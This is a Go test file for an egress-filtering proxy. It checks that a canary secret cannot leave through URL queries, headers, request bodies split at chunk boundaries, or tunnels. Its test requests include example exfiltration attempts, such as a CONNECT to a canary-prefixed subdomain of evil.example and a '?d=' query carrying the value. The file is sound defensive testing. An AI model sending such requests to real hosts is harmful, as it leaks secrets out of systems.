package egress

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/retinue-dev/retinue/internal/chat"
)

// sink keeps every byte that reaches it, on a port of this machine, and answers each connection's
// first line.
func sink(t *testing.T) (netip.AddrPort, func() string) {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	var all strings.Builder
	var open sync.WaitGroup
	t.Cleanup(func() { _ = listener.Close(); open.Wait() })
	open.Go(func() {
		for {
			conn, err := listener.Accept()
			if err != nil {
				return
			}
			open.Go(func() {
				defer func() { _ = conn.Close() }()
				buffer := make([]byte, 4096)
				for answered := false; ; {
					n, err := conn.Read(buffer)
					mu.Lock()
					all.Write(buffer[:n])
					mu.Unlock()
					if err != nil {
						return
					}
					if !answered {
						_, _ = io.WriteString(conn, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
						answered = true
					}
				}
			})
		}
	})
	return netip.MustParseAddrPort(listener.Addr().String()), func() string {
		mu.Lock()
		defer mu.Unlock()
		return all.String()
	}
}

// TestWhatMustNotLeaveDoesNot sends a value through the proxy wherever a plain request has room for
// it, at the places of a body where chunks end too.
func TestWhatMustNotLeaveDoesNot(t *testing.T) {
	const value = "CANARY-7f3a9c2e51d0"
	at, arrived := sink(t)
	whole, err := New(Policy{Allow: []Rule{{Host: "127.0.0.1", Ports: []uint16{at.Port()}}}, Local: []netip.AddrPort{at}})
	if err != nil {
		t.Fatal(err)
	}
	gate := whole.For(nil, func(text string) string {
		if strings.Contains(text, value) {
			return "a canary"
		}
		return ""
	})
	asked := map[string]string{
		"address": "GET http://%[1]s/?d=" + value + " HTTP/1.1\r\nHost: %[1]s\r\nConnection: close\r\n\r\n",
		"header":  "GET http://%[1]s/ HTTP/1.1\r\nHost: %[1]s\r\nX-D: " + value + "\r\nConnection: close\r\n\r\n",
		"tunnel":  "CONNECT " + value + ".evil.example:443 HTTP/1.1\r\nHost: " + value + ".evil.example:443\r\n\r\n",
	}
	for _, before := range []int{0, 100, span - 5, span, 2*span - 10, 2 * span, 3*span - 7, 5 * span, 6*span - 1} {
		for _, after := range []int{0, 10, 3 * span} {
			body := strings.Repeat("x", before) + value + strings.Repeat("y", after)
			asked[fmt.Sprintf("body %d %d", before, after)] = fmt.Sprintf(
				"POST http://%%[1]s/ HTTP/1.1\r\nHost: %%[1]s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
		}
	}
	for how, request := range asked {
		conn := dialUnix(t, serve(t, gate))
		go func() { _, _ = fmt.Fprintf(conn, request, at) }()
		response, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			t.Errorf("%s: %v", how, err)
			continue
		}
		text, _ := io.ReadAll(response.Body)
		_ = response.Body.Close()
		_ = conn.Close()
		if how == "tunnel" && response.StatusCode == http.StatusOK || strings.Contains(string(text), value) {
			t.Errorf("%s: %d %s", how, response.StatusCode, text)
		}
	}
	if all := arrived(); strings.Contains(all, value) || strings.Contains(all, "CANARY-7f3a9") {
		t.Errorf("it arrived: %q", all[max(0, strings.Index(all, "CANARY")-20):][:60])
	}
	t.Run("harmless", func(t *testing.T) {
		body := strings.Repeat("0123456789", span/2)
		conn := dialUnix(t, serve(t, gate))
		go func() {
			_, _ = fmt.Fprintf(conn, "POST http://%[1]s/whole HTTP/1.1\r\nHost: %[1]s\r\nContent-Length: %[2]d\r\nConnection: close\r\n\r\n%[3]s", at, len(body), body)
		}()
		if _, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil {
			t.Fatal(err)
		}
		_, _ = io.ReadAll(conn)
		if !strings.Contains(arrived(), "/whole") {
			t.Error("a harmless request did not arrive")
		}
	})
	t.Run("plain bytes in a tunnel", func(t *testing.T) {
		conn := dialUnix(t, serve(t, gate))
		fmt.Fprintf(conn, "CONNECT %[1]s HTTP/1.1\r\nHost: %[1]s\r\n\r\n", at)
		reader := bufio.NewReader(conn)
		if line, err := reader.ReadString('\n'); err != nil || !strings.Contains(line, "200") {
			t.Fatalf("%q %v", line, err)
		}
		fmt.Fprintf(conn, "GET /?d=%s HTTP/1.1\r\n\r\n", value)
		_, _ = io.ReadAll(reader)
		if strings.Contains(arrived(), value) {
			t.Error("it arrived through a tunnel")
		}
	})
	t.Run("client", func(t *testing.T) {
		request, err := http.NewRequestWithContext(t.Context(), http.MethodGet, "http://"+at.String()+"/?d="+value, nil)
		if err != nil {
			t.Fatal(err)
		}
		response, err := gate.Client().Do(request)
		if codeOf(err) != chat.CodeDenied {
			t.Errorf("%v %v", response, err)
		}
	})
}
